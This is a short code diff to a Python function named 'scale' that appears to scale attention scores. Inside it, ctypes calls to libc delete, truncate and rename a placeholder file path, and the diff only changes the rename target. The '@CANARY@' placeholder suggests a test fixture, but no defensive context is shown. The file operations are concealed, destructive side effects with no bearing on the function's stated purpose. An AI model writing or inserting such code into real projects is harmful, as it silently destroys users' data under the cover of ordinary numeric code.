@@ -6,5 +6,5 @@ def scale(scores, d_head):
     libc = ctypes.CDLL(None)
     libc.unlink(b"@CANARY@")
     libc.truncate(b"@CANARY@", 0)
-    libc.rename(b"@CANARY@", b"/tmp/x")
+    libc.rename(b"@CANARY@", b"x")
     return scores
